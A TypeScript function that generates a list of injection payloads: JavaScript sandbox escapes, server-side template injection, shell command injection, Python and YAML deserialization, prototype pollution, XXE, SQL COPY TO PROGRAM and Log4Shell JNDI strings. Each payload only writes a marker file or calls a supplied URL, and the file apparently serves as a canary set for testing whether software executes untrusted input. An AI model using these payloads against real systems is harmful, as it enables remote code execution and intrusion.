/** Texts that would run as code, or as a command, wherever a text is taken for more than that. Each leaves a mark: a file, or a call. */
export function escapePayloads({ file, url }: { file: string; url: string }): string[] {
  const write = `require('fs').writeFileSync('${file}','x')`;
  const build = `process.mainModule.require('fs').writeFileSync('${file}','x')`;
  const shell = `touch ${file}`;
  const javascript = [
    write,
    build,
    `import('fs').then(f=>f.writeFileSync('${file}','x'))`,
    `(()=>{}).constructor("${build}")()`,
    `[].constructor.constructor("${build}")()`,
    `"".sub.constructor("${build}")()`,
    `this.constructor.constructor("return process")().mainModule.require("fs").writeFileSync("${file}","x")`,
    `Reflect.construct(Function,["${build}"])()`,
    `Reflect.getPrototypeOf(async()=>{}).constructor("${build}")()`,
    `new Proxy({}, {get(){${build}}}).x`,
    `fetch('${url}')`,
    `globalThis.process.binding('spawn_sync')`,
    `try{null.x}catch(e){e.constructor.constructor("${build}")()}`,
    `Error.prepareStackTrace=(_,s)=>s[0].getThis().constructor.constructor("${build}")()`,
    `\`\${${build}}\``,
  ];
  const templates = [
    "{{%s}}",
    ["$", "{%s}"].join(""),
    "#{%s}",
    "<%%= %s %%>",
    "{%% %s %%}",
    "{{=%s}}",
    "[[%s]]",
    "@(%s)",
    "*{%s}",
    "{%s}",
  ].map((form) => form.replaceAll("%%", "%").replace("%s", build));
  const jinja = [
    `{{ ''.__class__.__mro__[1].__subclasses__() }}`,
    `{{ cycler.__init__.__globals__.os.popen('${shell}').read() }}`,
    `{{ self.__init__.__globals__.__builtins__.__import__('os').system('${shell}') }}`,
    `{{constructor.constructor("${build}")()}}`,
    `{{$on.constructor("${build}")()}}`,
    `#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("${shell}"))`,
    `\${T(java.lang.Runtime).getRuntime().exec("${shell}")}`,
  ];
  const shells = [
    `; ${shell}`,
    `| ${shell}`,
    `&& ${shell}`,
    `$(${shell})`,
    `\`${shell}\``,
    `\n${shell}\n`,
    `'; ${shell} #`,
    `"; ${shell} #`,
    `--checkpoint-action=exec=${shell}`,
    `() { :;}; ${shell}`,
    `curl ${url}`,
    `%0a${encodeURIComponent(shell)}`,
  ];
  const python = [
    `__import__('os').system('${shell}')`,
    `eval(compile("open('${file}','w')","","exec"))`,
    `exec("open('${file}','w')")`,
    `ctypes.CDLL(None).system(b'${shell}')`,
    `!!python/object/apply:os.system ["${shell}"]`,
    `cos\nsystem\n(S'${shell}'\ntR.`,
    Buffer.from(`\x80\x04cposix\nsystem\n(S'${shell}'\ntR.`).toString("base64"),
  ];
  const data = [
    `{"__proto__":{"shell":"${shell}"}}`,
    `{"constructor":{"prototype":{"argv0":"${shell}"}}}`,
    `{"rce":"_$$ND_FUNC$$_function(){${build}}()"}`,
    `!!js/function "function(){${build}}"`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "${url}">]><x>&e;</x>`,
    `'; COPY (SELECT 'x') TO '${file}'; --`,
    `'; COPY (SELECT 1) TO PROGRAM '${shell}'; --`,
    `\${jndi:ldap://${new URL(url).host}/a}`,
    url,
    `file://${file}`,
    `../../../../..${file}`,
  ];
  return [...javascript, ...templates, ...jinja, ...shells, ...python, ...data];
}
